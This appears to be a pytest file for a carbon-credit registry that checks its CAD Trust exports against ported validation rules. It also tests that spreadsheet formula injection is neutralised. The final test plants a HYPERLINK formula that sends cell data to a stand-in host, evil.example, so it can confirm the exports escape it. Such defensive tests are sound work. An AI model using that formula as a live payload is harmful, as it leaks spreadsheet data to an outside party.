"""Every v1 export passes CAD Trust's own validation (what `PUT /v1/projects`
and `PUT /v1/units` check), with picklist values from the pickList this
registry serves.

The rules are ported from CAD Trust's Joi schemas (Chia-Network/cadt, develop
at 171e6d636265c248a5893a0e9efad50dd2e4f12e, src/validations/
projects, units, issuances, labels, locations, co-benefits, estimations,
ratings, relatedProjects). CAD Trust's public source has no v2 validation to
port; v2 is checked by Tonne's own importer (test_import.py)."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tonne import testing

pytestmark = pytest.mark.django_db

# field: (rule, picklist) — rule: str (a non-empty string), date, int, year, id (string or number)
PROJECT = {
    "projectId": ("id", None), "originProjectId": ("id", None), "registryOfOrigin": ("str", None),
    "projectName": ("str", None), "projectLink": ("str", None), "projectDeveloper": ("str", None),
    "sector": ("str", None), "projectType": ("str", None), "coveredByNDC": ("str", "coveredByNDC"),
    "projectStatus": ("str", "projectStatusValues"), "projectStatusDate": ("date", None),
    "unitMetric": ("str", "unitMetric"), "methodology": ("str", None),
}
UNIT = {
    "countryJurisdictionOfOwner": ("str", "countries"), "unitBlockStart": ("str", None),
    "unitBlockEnd": ("str", None), "unitCount": ("int", None), "vintageYear": ("year", None),
    "unitType": ("str", "unitType"), "unitStatus": ("str", "unitStatus"), "unitRegistryLink": ("str", None),
    "correspondingAdjustmentDeclaration": ("str", "correspondingAdjustmentDeclaration"),
    "correspondingAdjustmentStatus": ("str", "correspondingAdjustmentStatus"),
}
CHILDREN = {
    "issuances": {"startDate": ("date", None), "endDate": ("date", None), "verificationApproach": ("str", None),
                  "verificationReportDate": ("date", None)},
    "labels": {"label": ("str", None), "labelType": ("str", "labelType"), "creditingPeriodStartDate": ("date", None),
               "creditingPeriodEndDate": ("date", None), "validityPeriodStartDate": ("str", None),
               "validityPeriodEndDate": ("date", None), "unitQuantity": ("int", None), "labelLink": ("str", None)},
    "projectLocations": {"country": ("str", "countries"), "geographicIdentifier": ("id", None)},
    "coBenefits": {"cobenefit": ("str", None)},
    "estimations": {"creditingPeriodStart": ("date", None), "creditingPeriodEnd": ("date", None),
                    "unitCount": ("int", None)},
    "projectRatings": {"ratingType": ("str", "ratingType"), "ratingRangeLowest": ("str", None),
                       "ratingRangeHighest": ("str", None), "rating": ("str", None), "ratingLink": ("str", None)},
    "relatedProjects": {"relatedProjectId": ("str", None)},
}
ORDERED = {"issuances": ("startDate", "endDate"), "estimations": ("creditingPeriodStart", "creditingPeriodEnd"),
           "labels": ("creditingPeriodStartDate", "creditingPeriodEndDate")}


def _date(value: Any) -> dt.datetime | None:
    try:
        return dt.datetime.fromisoformat(str(value).replace("Z", "+00:00"))
    except ValueError:
        return None


def _errors(record: dict[str, Any], rules: dict[str, tuple[str, str | None]], pick: dict[str, list[str]],
            where: str) -> list[str]:
    out = []
    for field, (rule, picklist) in rules.items():
        value = record.get(field)
        ok = {
            "str": isinstance(value, str) and value != "",
            "id": isinstance(value, (str, int)) and value != "",
            "date": value is not None and _date(value) is not None,
            "int": isinstance(value, int) or (isinstance(value, str) and value.isdigit()),
            "year": isinstance(value, int) and 1900 <= value <= 3000,
        }[rule]
        if not ok:
            out.append(f"{where}: {field} {rule} required, got {value!r}")
        elif picklist and value not in pick[picklist]:
            out.append(f"{where}: {field} {value!r} not on the pickList's {picklist}")
    return out


def cadt_errors(doc: dict[str, list[dict[str, Any]]], pick: dict[str, list[str]]) -> list[str]:
    """What CAD Trust's Joi validation would refuse in a v1 document."""
    errors = []
    for project in doc.get("projects", []):
        errors += _errors(project, PROJECT, pick, f"project {project.get('projectId')}")
        for child, rules in CHILDREN.items():
            for row in project.get(child) or []:
                errors += _errors(row, rules, pick, f"{child} {row.get('id')}")
                if child in ORDERED:
                    start, end = (_date(row.get(f)) for f in ORDERED[child])
                    if start and end and end < start:
                        errors.append(f"{child} {row.get('id')}: ends before it starts")
    for unit in doc.get("units", []):
        errors += _errors(unit, UNIT, pick, f"unit {unit.get('warehouseUnitId')}")
        if unit.get("marketplaceIdentifier") == "":
            errors.append(f"unit {unit.get('warehouseUnitId')}: marketplaceIdentifier empty")
        if unit.get("issuance"):
            errors += _errors(unit["issuance"], CHILDREN["issuances"], pick, "unit issuance")
        for label in unit.get("labels") or []:
            errors += _errors(label, CHILDREN["labels"], pick, "unit label")
    return errors


def _sheet_rows(book: Any, name: str) -> list[dict[str, Any]]:
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=False)) for r in rows[1:]]


def test_every_v1_export_passes_cadt_validation(cadt_reg: testing.Registry, client: Client) -> None:
    from tonne.projects.models import Project

    # A project with no link of its own and an avoidance unit type (not on v1's list).
    project = cadt_reg.extra["project"]
    Project.objects.filter(pk=project.pk).update(link="", unit_type="Avoidance - technical")
    pick = client.get("/cadt/v1/governance/meta/pickList").json()
    doc = json.loads(client.get("/api/v1/cadt/export", {"model": "1", "format": "json"}).content)
    assert doc["projects"] and doc["units"]
    assert cadt_errors(doc, pick) == []
    listed = {
        "projects": client.get("/cadt/v1/projects", {"page": 1, "limit": 1000}).json()["data"],
        "units": client.get("/cadt/v1/units", {"page": 1, "limit": 1000}).json()["data"],
    }
    assert cadt_errors(listed, pick) == []
    assert {u["unitType"] for u in listed["units"]} == {"Reduction - technical"}
    assert all(p["projectLink"].endswith(f"/projects/{p['projectId']}/") for p in listed["projects"])
    # The workbooks carry the same values, sheet by sheet.
    for kind in ("projects", "units"):
        book = load_workbook(io.BytesIO(client.get(f"/cadt/v1/{kind}", {"xls": "true"}).content))
        rows = _sheet_rows(book, kind)
        rules = PROJECT if kind == "projects" else UNIT
        for row in rows:
            for field, (_, picklist) in rules.items():
                assert row[field] not in (None, ""), (kind, field)
                if picklist:
                    assert row[field] in pick[picklist], (kind, field, row[field])
    book = load_workbook(io.BytesIO(client.get("/api/v1/cadt/export", {"model": "1", "format": "xlsx"}).content))
    assert all(row["unitRegistryLink"] for row in _sheet_rows(book, "units"))


def test_the_rules_refuse_what_cadt_refuses() -> None:
    pick = {"coveredByNDC": ["Inside NDC"], "projectStatusValues": ["Registered"], "unitMetric": ["tCO2e"],
            "unitType": ["Removal - nature"], "countries": ["Ghana"], "unitStatus": ["Held"],
            "correspondingAdjustmentDeclaration": ["Unknown"], "correspondingAdjustmentStatus": ["Pending"]}
    unit = {"countryJurisdictionOfOwner": "Ghana", "unitBlockStart": "1", "unitBlockEnd": "2", "unitCount": 2,
            "vintageYear": 2020, "unitType": "Avoidance - technical", "unitStatus": "Held", "unitRegistryLink": None,
            "correspondingAdjustmentDeclaration": "Unknown", "correspondingAdjustmentStatus": "Pending"}
    errors = cadt_errors({"units": [unit]}, pick)
    assert len(errors) == 2 and any("unitRegistryLink" in e for e in errors) and any("unitType" in e for e in errors)


def test_formula_injection_in_cadt_exports_is_neutralised(cadt_reg: testing.Registry, client: Client) -> None:
    """A project named as a spreadsheet formula is written as text in every
    CAD Trust file people open: the API's Excel and CSV exports and the
    read API's xls=true workbooks (OWASP's rule), never as a live formula."""
    import csv
    import zipfile

    from tonne.projects.models import Project

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    Project.objects.filter(pk=cadt_reg.extra["project"].pk).update(name=evil)

    def cells(book: Any) -> list[Any]:
        return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]

    books = [
        load_workbook(io.BytesIO(client.get("/api/v1/cadt/export", {"model": m, "format": "xlsx"}).content))
        for m in ("1", "2")
    ] + [load_workbook(io.BytesIO(client.get("/cadt/v1/projects", {"xls": "true"}).content))]
    for book in books:
        found = cells(book)
        assert all(c.data_type != "f" for c in found)  # no formula cell anywhere
        assert "'" + evil in {c.value for c in found}
    archive = zipfile.ZipFile(io.BytesIO(client.get("/api/v1/cadt/export", {"model": "1", "format": "csv"}).content))
    texts = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    values = [v for text in texts for row in csv.reader(io.StringIO(text)) for v in row]
    assert "'" + evil in values and evil not in values
